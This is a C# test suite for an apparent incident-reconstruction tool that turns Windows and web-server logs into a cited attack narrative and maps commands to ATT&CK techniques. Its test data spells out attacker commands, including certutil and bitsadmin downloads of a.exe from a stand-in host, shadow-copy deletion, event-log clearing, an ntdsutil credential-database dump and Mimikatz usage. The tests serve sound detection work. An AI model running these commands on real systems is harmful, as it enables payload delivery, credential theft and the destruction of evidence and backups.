using Culprit.Evidence;
using Culprit.Incidents;

namespace Culprit.Tests.Incidents;

/// <summary>What is told of an incident, and that each sentence cites its events or is marked as a judgement.</summary>
public sealed class StoryTests : IDisposable
{
    private readonly LoggedWorld _world = new();

    public void Dispose() => _world.Dispose();

    [Fact]
    public void Processes_hang_below_those_that_started_them()
    {
        _world.Starts(0, "PC-1", "bad", "shell", "evil.exe").Starts(1, "PC-1", "child", "bad", "whoami").Starts(2, "PC-1", "grandchild", "child", "net user");

        ProcessTree root = Assert.Single(Story().Processes);

        Assert.Equal(@"C:\Users\anna\shell.exe", root.Image);
        Assert.Equal(["evil.exe", "whoami", "net user"], new[] { root.Children[0], root.Children[0].Children[0], root.Children[0].Children[0].Children[0] }.Select(static one => one.CommandLine));
    }

    [Fact]
    public void What_a_web_server_gave_out_has_bounds()
    {
        _world.Starts(0, "WEB-1", "bad", "shell", "evil.exe")
            .Log(1, "WEB-1", "Sysmon", 11, ("ProcessGuid", "{62616400-0000-0000-0000-000000000000}"), ("Image", @"C:\Users\anna\bad.exe"), ("TargetFilename", @"C:\inetpub\wwwroot\img\loot.zip"))
            .File("u_ex200203.log", """
                #Software: Microsoft Internet Information Services 10.0
                #Version: 1.0
                #Date: 2020-02-03 08:00:00
                #Fields: date time s-computername s-ip cs-method cs-uri-stem c-ip sc-status sc-win32-status sc-bytes
                2020-02-03 08:05:00 WEB-1 10.0.0.1 GET /img/loot.zip 203.0.113.5 200 0 5000000
                2020-02-03 08:06:00 WEB-1 10.0.0.1 GET /img/loot.zip 203.0.113.5 206 64 1000000
                2020-02-03 08:07:00 WEB-1 10.0.0.1 GET /index.html 203.0.113.9 200 0 700
                """);

        TakenData taken = Assert.Single(Story().Taken);

        Assert.Equal(("/img/loot.zip", "WEB-1", TakenState.Taken), (taken.What, taken.Host, taken.State));
        Assert.Equal((5_000_000 - (16 * 1024), 6_000_000), (taken.AtLeastBytes!.Value, taken.AtMostBytes!.Value));
    }

    [Fact]
    public void Packed_files_are_staged_without_a_size_and_renamed_tools_are_named()
    {
        _world.Log(0, "FS-1", "Sysmon", 1, ("ProcessGuid", "{1}"), ("Image", @"C:\Temp\r.exe"), ("OriginalFileName", "Rar.exe"), ("CommandLine", @"r.exe a -hpevil C:\Temp\a.rar D:\data"), ("User", @"LAB\anna"));

        IncidentStory story = Story();

        Assert.Equal((@"C:\Temp\a.rar", TakenState.Staged, null), (story.Taken[0].What, story.Taken[0].State, story.Taken[0].AtMostBytes));
        Assert.Equal("RAR", Assert.Single(story.Tools).Name);
        Assert.Contains("'r.exe' calls itself 'Rar.exe'", story.Tools[0].Basis.Text, StringComparison.Ordinal);
        Assert.Contains(story.Limits, static limit => limit.Question.StartsWith("Whether anything left the network", StringComparison.Ordinal));
    }

    // The title of the rule names two tools; one of them ran.
    [Fact]
    public void Of_the_tools_that_a_rule_is_for_the_one_that_the_record_names_is_named()
    {
        _world.Rule("Directory harvested with AdFind or the BloodHound collector", "trusteddomain").Rule("Mimikatz seen", "sekurlsa")
            .Starts(0, "PC-1", "bad", "shell", "evil.exe").Starts(1, "PC-1", "child", "bad", "AdFind -f objectcategory=trusteddomain").Starts(2, "PC-1", "third", "bad", "m.exe sekurlsa::x");

        Assert.Equal(["AdFind", "Mimikatz"], Story().Tools.Select(static tool => tool.Name));
    }

    [Fact]
    public void Fields_that_a_record_lacks_leave_no_gap_in_what_is_told()
    {
        const string process = "{62616400-0000-0000-0000-000000000000}";
        _world.Starts(0, "PC-1", "bad", "shell", "evil.exe")
            .Log(1, "PC-1", "Sysmon", 3, ("ProcessGuid", process))
            .Log(2, "PC-1", "Sysmon", 3, ("ProcessGuid", process), ("Image", @"C:\bad.exe"), ("DestinationIp", "203.0.113.5"), ("DestinationPort", "443"), ("SourceIp", "10.0.0.7"))
            .Log(3, "PC-1", "Sysmon", 3, ("ProcessGuid", process), ("Image", @"C:\bad.exe"), ("DestinationIp", "203.0.113.5"), ("Initiated", "True"))
            .Log(4, "PC-1", "Sysmon", 3, ("ProcessGuid", process), ("Image", @"C:\bad.exe"), ("DestinationIp", "10.0.0.7"), ("DestinationPort", "80"), ("SourceIp", "203.0.113.5"), ("Initiated", "false"))
            .Log(5, "PC-1", "Sysmon", 7, ("ProcessGuid", process));

        Assert.Equal(
            [
                "Process started: evil.exe", "A program had a connection, of which the record names neither end", "bad.exe had a connection between 10.0.0.7 and 203.0.113.5:443",
                "bad.exe connected to 203.0.113.5", "bad.exe was reached at 10.0.0.7:80 from 203.0.113.5", "A program loaded (not recorded)",
            ],
            Assert.Single(_world.Incidents()).Events.Select(static one => one.Summary));
    }

    // The log of the web server names no machine: the first sign is there all the same.
    [Fact]
    public void A_host_that_no_record_names_is_a_host()
    {
        _world.Starts(6, "WEB-1", "bad", "shell", "evil.exe")
            .Log(7, "WEB-1", "Sysmon", 11, ("ProcessGuid", "{62616400-0000-0000-0000-000000000000}"), ("Image", @"C:\Users\anna\bad.exe"), ("TargetFilename", @"C:\inetpub\wwwroot\img\loot.zip"))
            .File("proxy/access.log.1", """
                203.0.113.5 - - [03/Feb/2020:08:05:00 +0000] "GET /img/loot.zip HTTP/1.1" 200 700 "-" "-"

                """)
            .File("proxy/access.log", """
                203.0.113.5 - - [03/Feb/2020:08:08:00 +0000] "POST /img/loot.zip HTTP/1.1" 200 700 "-" "-"

                """);

        IncidentStory story = Story();

        Assert.Equal(["the web server of proxy/access.log", "WEB-1"], story.HostsFallen.Select(static host => host.Host));
        Assert.Contains(" on the web server of proxy/access.log: GET /img/loot.zip from 203.0.113.5", story.Entry[0].Text, StringComparison.Ordinal);
        Assert.Contains(story.Entry, static one => one.Text.StartsWith("Patient zero is the web server of proxy/access.log,", StringComparison.Ordinal));
        Assert.Contains("sent 2 requests to the web server of proxy/access.log, 1 of them POST", Assert.Single(story.Channels).Role.Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("case.zip!/logs/access.log.12.gz", "logs/access.log")]
    [InlineData("logs/access.log.2.gz!/access.log.2", "logs/access.log")]
    [InlineData(@"D:\case\access_log-20200305", "case/access_log")]
    [InlineData("./access.log", "access.log")]
    [InlineData("9", "9")]
    public void A_rotated_log_is_one_host(string path, string log) =>
        Assert.Equal("the web server of " + log, Culprit.Incidents.Surroundings.UnnamedHosts.Of(RecordKind.WebRequest, path));

    // A rule for many commands does not say which of them ran.
    [Theory]
    [InlineData("net group \"Domain Admins\" /domain", "T1069.002")]
    [InlineData("net user anna /domain", "T1087.002")]
    [InlineData("net user anna secret /add", null)]
    [InlineData("net view", "T1018")]
    public void What_net_asks_for_is_a_technique_of_its_own(string command, string? technique)
    {
        _world.Starts(0, "PC-1", "bad", "shell", "evil.exe").Starts(1, "PC-1", "net", "bad", command);

        Assert.Equal(technique, Assert.Single(_world.Incidents()).Events[1].Techniques.Where(static one => one.Tactic == "discovery").Select(static one => one.Technique).SingleOrDefault());
    }

    [Theory]
    [InlineData("wevtutil.exe", "wevtutil qe Security /c:50 /rd:true /f:text", "")]
    [InlineData("wevtutil.exe", "wevtutil cl System", "T1070.001")]
    [InlineData("wevtutil.exe", "wevtutil.exe sl Security /e:false", "T1562.002")]
    [InlineData("certutil.exe", @"certutil.exe -hashfile C:\Users\Public\setup.exe SHA256", "")]
    [InlineData("certutil.exe", "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe", "T1105")]
    [InlineData("bitsadmin.exe", "bitsadmin.exe /list /allusers", "")]
    [InlineData("bitsadmin.exe", "bitsadmin /transfer j http://203.0.113.9/a.exe a.exe", "T1105")]
    [InlineData("7z.exe", @"""C:\Program Files\7-Zip\7z.exe"" x a.zip", "")]
    [InlineData("7z.exe", @"""C:\Program Files\7-Zip\7z.exe"" a a.zip x", "T1560.001")]
    [InlineData("rar.exe", "rar lt a.rar", "")]
    [InlineData("schtasks.exe", "schtasks.exe /query /fo LIST", "")]
    [InlineData("schtasks.exe", "schtasks /create /tn a /tr b /sc daily", "T1053.005")]
    [InlineData("ntdsutil.exe", "ntdsutil.exe help", "")]
    [InlineData("ntdsutil.exe", @"ntdsutil ""ac i ntds"" ifm ""create full C:\a"" q q", "T1003.003")]
    [InlineData("vssadmin.exe", "vssadmin list shadows", "")]
    [InlineData("vssadmin.exe", "vssadmin delete shadows /all /quiet", "T1490")]
    [InlineData("procdump.exe", "procdump -ma winword.exe", "")]
    [InlineData("psexec.exe", "psexec -s cmd", "")]
    [InlineData("psexec.exe", @"psexec \\pc-2 cmd", "T1021.002")]
    [InlineData("mstsc.exe", "mstsc.exe", "")]
    [InlineData("plink.exe", "plink host", "")]
    [InlineData("plink.exe", "plink -R 1:2:3 host", "T1572")]
    [InlineData("ping.exe", "ping -n 5 127.0.0.1", "")]
    [InlineData("ping.exe", "ping -n 1 dc-1", "T1018")]
    [InlineData("nltest.exe", "nltest /dclist:lab", "T1018")]
    [InlineData("nltest.exe", "nltest /domain_trusts", "T1482")]
    [InlineData("route.exe", "route add 10.0.0.0 1.2.3.4", "")]
    [InlineData("ipconfig.exe", "ipconfig /flushdns", "")]
    [InlineData("ipconfig.exe", "ipconfig", "T1016")]
    [InlineData("whoami.exe", "", "T1033")]
    [InlineData("wevtutil.exe", "", "")]
    [InlineData("whoami.exe", "whoami /?", "")]
    public void A_program_shows_what_it_was_told_to_do_and_no_more(string program, string command, string technique)
    {
        _world.Starts(0, "PC-1", "bad", "shell", "evil.exe")
            .Log(1, "PC-1", "Sysmon", 1, ("ProcessGuid", "{9}"), ("ParentProcessGuid", LoggedWorld.Guid("bad")), ("Image", @"C:\Tools\" + program), ("CommandLine", command));

        Assert.Equal(technique, Assert.Single(_world.Incidents()).Events[1].Techniques.Select(static one => one.Technique).SingleOrDefault() ?? "");
    }

    [Theory]
    [InlineData("mmc.exe", "mmc.exe compmgmt.msc", "notepad.exe", "")]
    [InlineData("mmc.exe", "mmc.exe -Embedding", "notepad.exe", "T1021.003")]
    [InlineData("w3wp.exe", "w3wp.exe", "csc.exe", "")]
    [InlineData("wsmprovhost.exe", "wsmprovhost.exe -Embedding", "conhost.exe", "")]
    [InlineData("wsmprovhost.exe", "wsmprovhost.exe -Embedding", "notepad.exe", "T1021.006")]
    public void So_does_what_started_it(string parent, string parentCommand, string program, string technique)
    {
        _world.Log(0, "PC-1", "Sysmon", 1, ("ProcessGuid", "{9}"), ("ParentProcessGuid", "{8}"), ("Image", @"C:\Tools\" + program), ("ParentImage", @"C:\Tools\" + parent), ("ParentCommandLine", parentCommand), ("CommandLine", "evil"));

        Assert.Equal(technique, Assert.Single(_world.Incidents()).Events[0].Techniques.Where(static one => one.Basis.Length == 0).Select(static one => one.Technique).SingleOrDefault() ?? "");
    }

    [Theory]
    [InlineData("Sysmon", 10, "GrantedAccess", "0x1000", "")]
    [InlineData("Sysmon", 10, "GrantedAccess", "0x1410", "T1003.001")]
    [InlineData("Security", 4719, "AuditPolicyChanges", "%%8449", "")]
    [InlineData("Security", 4719, "AuditPolicyChanges", "%%8448", "T1562.002")]
    [InlineData("Security", 5145, "RelativeTargetName", "srvsvc", "")]
    [InlineData("Security", 5145, "RelativeTargetName", "svcctl", "T1021.002")]
    public void An_event_shows_what_stands_in_it(string channel, int eventId, string field, string value, string technique)
    {
        _world.Starts(0, "PC-1", "bad", "shell", "evil.exe")
            .Log(1, "PC-1", channel, eventId, ("ProcessGuid", LoggedWorld.Guid("bad")), ("SourceProcessGUID", LoggedWorld.Guid("bad")), ("SubjectLogonId", "0x500"), ("TargetImage", @"C:\Windows\System32\lsass.exe"), (field, value));

        Assert.Equal(technique, Assert.Single(_world.Incidents()).Events[1].Techniques.Select(static one => one.Technique).SingleOrDefault() ?? "");
    }

    // Whoever attacks chooses how long a command is, and a busy machine how long it takes to look through it.
    [Fact]
    public void A_command_without_end_does_not_end_the_run()
    {
        _world.Starts(0, "PC-1", "rar", "shell", "rar.exe a evil " + new string('x', 30_000));

        Assert.Equal("an archive", Assert.Single(Story().Taken).What);
    }

    [Fact]
    public void A_return_is_told_and_its_absence_is_no_proof()
    {
        _world.Starts(0, "PC-1", "bad", "shell", "evil.exe");
        Assert.Contains("does not mean that there was none", Assert.Single(Story().Returned).Text, StringComparison.Ordinal);

        _world.Starts(60 * 24 * 3, "PC-1", "child", "bad", "whoami");
        Assert.Contains("2 visits", Story().Returned[0].Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Microsoft-Windows-Windows Defender")]
    [InlineData("ESET")]
    public void What_antivirus_finds_again_and_again_is_no_single_visit(string provider)
    {
        _world.FindsThreats();
        Detect(0);
        Assert.Contains("Antivirus alone tells of this incident.", Assert.Single(Story().Returned).Text, StringComparison.Ordinal);

        Detect(60 * 24 * 5);
        Detect(60 * 24 * 20);
        Statement alone = Assert.Single(Story().Returned);
        Assert.Contains("3 times", alone.Text, StringComparison.Ordinal);
        Assert.True(alone.IsJudgement);

        _world.Starts(5, "PC-1", "x", "shell", "evil.exe");
        Statement beside = Assert.Single(Story().Returned);
        Assert.Contains("neither recorded nor ruled out", beside.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("no later return", beside.Text, StringComparison.Ordinal);

        void Detect(double minutes) => _world.Log(minutes, "PC-1", "Antivirus", 1116, ("SourceName", provider), ("Threat Name", "Trojan:Win32/Evil"), ("Path", @"file:_C:\Users\anna\x.exe"));
    }

    [Fact]
    public void Logs_that_are_not_there_are_named()
    {
        _world.Starts(0, "PC-1", "bad", "shell", "evil.exe");

        Assert.Contains(Story().Limits, static limit => limit.WouldHaveTold == "The Security log of PC-1 would have told.");
        Assert.DoesNotContain(Story().Limits, static limit => limit.WouldHaveTold.Contains("Sysmon", StringComparison.Ordinal));
    }

    [Fact]
    public void Every_sentence_cites_events_or_is_a_judgement()
    {
        _world.Starts(0, "PC-1", "bad", "shell", "evil.exe").Starts(1, "PC-1", "child", "bad", "cmd /c del C:\\x.log");

        IncidentStory story = Story();

        Statement[] all =
        [
            .. story.Entry, .. story.Told, .. story.Hidden, .. story.Returned, .. story.HostsFallen.Select(static one => one.How), .. story.AccountsUsed.Select(static one => one.How),
            .. story.Benign.SelectMany(static one => one.For.Concat(one.Against).Append(one.Verdict)),
        ];
        Assert.All(all, static one => Assert.True(one.IsJudgement || one.Events.Length > 0, one.Text));
        Assert.All(all, static one => Assert.All(one.Events, static number => Assert.InRange(number, 0, 1)));
        Assert.Contains(story.Hidden, static one => one.Text.Contains("files were deleted", StringComparison.Ordinal));
    }

    // Whoever tests does what intruders do: records cannot tell the two apart, and who ordered the test can.
    [Fact]
    public void That_it_was_an_authorised_test_is_always_asked_for()
    {
        _world.Starts(0, "PC-1", "bad", "shell", "evil.exe").Starts(30, "PC-1", "child", "bad", @"evil \\files\Shared Teams\latest.txt");

        BenignExplanation test = Test();

        Assert.Empty(test.For);
        Assert.Empty(test.Against);
        Assert.True(test.Verdict.IsJudgement);
        Assert.Equal([0, 1], test.Verdict.Events);
        Assert.StartsWith("A test leaves the same records as an intrusion: ask who orders tests", test.Verdict.Text, StringComparison.Ordinal);
        Assert.Contains("these times (2020-02-03 08:00:00 UTC to 2020-02-03 08:30:00 UTC), source addresses, hosts and accounts ('anna')", test.Verdict.Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("PC-1", "anna", @"C:\AtomicRedTeam\evil.exe", "speaks of a test, such as 'C:\\AtomicRedTeam\\evil.exe'")]
    [InlineData("PC-1", "anna", "evil.exe /note:penetration-test", "speaks of a test")]
    [InlineData("TEST-PC-1", "anna", "evil.exe", "are called as those of tests are: 'TEST-PC-1'")]
    [InlineData("PC-1", "pentester", "evil.exe", "are called as those of tests are: 'pentester'")]
    public void What_the_evidence_says_of_a_test_speaks_for_one(string host, string account, string command, string told)
    {
        _world.Starts(0, host, "bad", "shell", command, user: $@"LAB\{account}");

        Assert.Contains(told, Assert.Single(Test().For).Text, StringComparison.Ordinal);
        Assert.Equal([0], Test().For[0].Events);
    }

    [Fact]
    public void Data_that_left_speaks_against_a_test()
    {
        _world.Starts(0, "WEB-1", "bad", "shell", "evil.exe")
            .Log(1, "WEB-1", "Sysmon", 11, ("ProcessGuid", "{62616400-0000-0000-0000-000000000000}"), ("Image", @"C:\Users\anna\bad.exe"), ("TargetFilename", @"C:\inetpub\wwwroot\img\loot.zip"))
            .File("u_ex200203.log", """
                #Software: Microsoft Internet Information Services 10.0
                #Version: 1.0
                #Date: 2020-02-03 08:00:00
                #Fields: date time s-computername s-ip cs-method cs-uri-stem cs-uri-query c-ip sc-status sc-win32-status sc-bytes
                2020-02-03 08:05:00 WEB-1 10.0.0.1 GET /img/loot.zip by=red-team 203.0.113.5 200 0 5000000
                """);

        Assert.Contains("Data left the network", Assert.Single(Test().Against).Text, StringComparison.Ordinal);
        Assert.Empty(Test().For);
    }

    private BenignExplanation Test() => Assert.Single(Story().Benign, static one => one.Explanation.StartsWith("An authorised test", StringComparison.Ordinal));

    private IncidentStory Story() => Assert.Single(_world.Incidents()).Story!;
}
